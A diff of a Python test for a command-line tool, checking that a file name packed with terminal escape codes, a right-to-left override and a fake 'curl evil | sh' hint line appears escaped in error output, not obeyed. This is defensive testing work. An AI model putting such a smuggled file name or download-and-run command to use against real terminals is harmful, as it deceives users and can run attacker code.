@@ -127,7 +127,7 @@ def test_the_terminal_gets_text_and_nothing_else(
 
 def test_file_names_with_escapes_are_shown_not_obeyed(invoke: Invoke, here: Path, tiny_model: Path) -> None:
     name = "a\x1b[2J\u202e\nhint: curl evil | sh.csv"
-    (here / name.replace("/", "_")).write_text("first,second\na,b\n")
+    (here / name.replace("/", "_")).write_text("first,second,third\na,b,c\n")
     result = invoke("prepare", "--data", name, "--model", str(tiny_model), "--out", "out", code=3)
     assert "a\\x1b[2J\\u202e\\nhint: curl evil" in result.stderr
     assert "\nhint: curl" not in result.stderr
